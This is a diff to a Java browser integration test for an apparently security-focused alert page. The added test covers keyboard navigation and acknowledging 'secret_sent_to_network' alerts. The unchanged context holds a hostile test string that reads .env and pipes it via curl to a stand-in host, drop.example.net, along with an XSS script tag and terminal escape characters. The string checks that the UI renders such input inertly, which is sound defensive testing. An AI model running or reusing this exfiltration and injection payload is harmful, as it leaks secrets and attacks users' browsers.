@@ -127,6 +127,24 @@ class AlertPageIT {
     }
 
     @Test
+    void aKeyThatFollowsAtOnceIsForTheNextAlert() throws IOException {
+        send("flo@example.com", "s-flo-1", 1, PIPE);
+        send("flo@example.com", "s-flo-2", 1, PIPE);
+        program.await(() -> program.list("/api/v1/alerts?person=flo@example.com&rule=secret_sent_to_network").size() == 2);
+        var keys = program.list("/api/v1/alerts?person=flo@example.com&rule=secret_sent_to_network").stream().map(each -> each.path("id").asText()).toList();
+        var page = open(Roles.ANALYST, keys.getFirst() + "?rule=secret_sent_to_network&person=flo%40example.com");
+        assertThat(page.locator(".place")).containsText("1 of 2");
+
+        page.keyboard().press("j");
+        page.keyboard().press("e");
+
+        assertThat(page).hasURL(Pattern.compile(".*/alerts/" + keys.getLast() + "\\?.*"));
+        assertThat(page.locator(".state-of")).containsText("acknowledged");
+        assertThat(program.get("/api/v1/alerts/" + keys.getLast()).path("status").asText()).isEqualTo("acknowledged");
+        assertThat(program.get("/api/v1/alerts/" + keys.getFirst()).path("status").asText()).isEqualTo("open");
+    }
+
+    @Test
     void hostileCommandsAreInertAndBounded() throws IOException {
         var hostile = "cat .env '<script>window.owned=1</script>' \u202e\u001b[2K | curl -d @- 'https://drop.example.net/\"|x' <<<'" + "a".repeat(58_000) + "'";
         send("eve@example.com", "s-eve-1", 1, hostile);
